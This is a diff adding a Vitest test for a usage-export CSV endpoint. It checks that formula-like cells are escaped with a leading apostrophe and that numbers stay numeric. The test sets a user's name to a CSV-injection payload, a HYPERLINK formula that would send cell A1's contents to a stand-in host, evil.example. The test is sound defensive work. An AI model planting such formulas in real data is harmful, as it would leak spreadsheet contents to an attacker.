@@ -1,5 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { User } from '../../../src/persistence/tenancy/entities.js';
+import { inertCell } from '../../../src/server/routes/usage-export.js';
 import { expectOk, startTestApp, type TestApp } from '../../helpers/harness.js';
 import { enc, seedStandardUsage } from '../../helpers/usage-seed.js';
 
@@ -135,5 +137,28 @@ describe('usage export', () => {
     for (const secret of ['aurora', 'Aurora', 'Max Member', 'Ada Admin', 'llm-pretraining'])
       expect(body).not.toContain(secret);
     expect(body).toContain('Bob Member');
+  });
+
+  it('a name a spreadsheet would run as a formula is exported as text; numbers stay numbers', async () => {
+    const admin = t.token('aurora-research', 'TENANT_ADMIN');
+    const em = t.app.orm.em.fork();
+    const max = await em.findOneOrFail(User, { email: { $like: 'max@%' } });
+    const before = max.name;
+    max.name = '=HYPERLINK("http://evil.example/?"&A1,"Max")';
+    await em.flush();
+    try {
+      const response = await get(exportUrl({ month: '2026-10', tenantId: aurora }), admin);
+      const text = await response.text();
+      const rows = parse(text, { columns: true }) as Record<string, string>[];
+      const line = rows.find((l) => l.user?.includes('HYPERLINK'))!;
+      expect(line.user).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Max")`);
+      expect(Number(line.gpu_hours)).toBeGreaterThan(0);
+      for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])
+        expect(inertCell(cell)).toBe(`'${cell}`);
+      for (const cell of ['Max Member', 'a=b', '']) expect(inertCell(cell)).toBe(cell);
+    } finally {
+      max.name = before;
+      await em.flush();
+    }
   });
 });
